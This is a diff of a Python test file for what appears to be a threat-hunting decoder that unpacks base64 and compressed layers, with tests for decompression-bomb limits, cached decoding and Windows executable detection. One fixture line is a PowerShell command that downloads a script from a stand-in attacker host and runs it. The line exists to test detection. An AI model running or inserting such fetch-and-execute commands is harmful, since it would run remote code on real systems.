@@ -7,11 +7,14 @@ import lzma
 import time
 import zlib
 
+import polars as pl
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from huntkit.extract.layers import DecodeLimits, Memory, decode_text, may_be_encoded
+from huntkit.extract.decode_limits import DecodeLimits
+from huntkit.extract.layers import decode_text, decode_texts
+from huntkit.extract.run_contents import Memory, may_decode
 
 SCRIPT = "Invoke-WebRequest http://evil.example.com/a.ps1 | iex"
 PLAIN = "Some long identity of a mailbox, nothing else"
@@ -86,10 +89,11 @@ def test_a_bomb_ends_at_the_ratio_and_says_so():
     bomb = b64(gzip.compress(b"\x41" * 50_000_000))
     start = time.process_time()
     (layer,) = decode_text(bomb, DecodeLimits(ratio=10))
-    assert layer.size <= 1 << 20
-    assert layer.note == "stopped: more bytes than the limit"
+    assert layer.content.size <= 1 << 20
+    assert layer.note == "stopped: more than 10 times the packed size"
+    assert layer.limit == "ratio"
     nested = b64(gzip.compress(gzip.compress(gzip.compress(b"\0" * 200_000_000))))
-    assert all(layer.size <= 32 << 20 for layer in decode_text(nested))
+    assert all(layer.content.size <= 16 << 20 for layer in decode_text(nested))
     assert time.process_time() - start < 5
 
 
@@ -175,12 +179,15 @@ def test_no_bytes_make_it_fail(data):
 def test_what_was_opened_before_is_remembered_with_its_own_place():
     memory = Memory()
     run = b64(SCRIPT)
-    first = decode_text(f"a {run}", memory=memory)
-    again = decode_text(f"longer {run}", memory=memory)
-    assert [(layer.text, layer.start) for layer in first + again] == [(SCRIPT, 2), (SCRIPT, 7)]
+    found = decode_texts(pl.Series([f"a {run}", f"longer {run}"]), memory=memory)
+    found += decode_texts(pl.Series([f"{run}"]), memory=memory)
+    assert [(layer.text, layer.start) for (layer,) in found] == [
+        (SCRIPT, 2), (SCRIPT, 7), (SCRIPT, 0),
+    ]  # fmt: skip
+    assert len({id(layer.content) for (layer,) in found}) == 1
 
 
 def test_a_windows_program_is_seen_at_first_sight():
     program = b"MZ\x90\x00" + b"\x00" * 74 + b"This program cannot be run" + bytes(range(256)) * 9
-    assert may_be_encoded(b64(program))
-    assert not may_be_encoded(b64(b"MZ" + bytes(range(256)) * 9))
+    assert may_decode(b64(program))
+    assert not may_decode(b64(b"MZ" + bytes(range(256)) * 9))
